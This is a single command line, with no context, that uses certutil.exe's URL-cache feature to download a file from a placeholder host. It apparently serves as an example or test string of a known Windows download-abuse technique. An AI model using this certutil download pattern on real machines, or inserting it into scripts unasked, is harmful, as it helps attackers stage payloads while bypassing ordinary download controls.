certutil.exe -urlcache -split -f http://example.invalid/a.txt a.txt
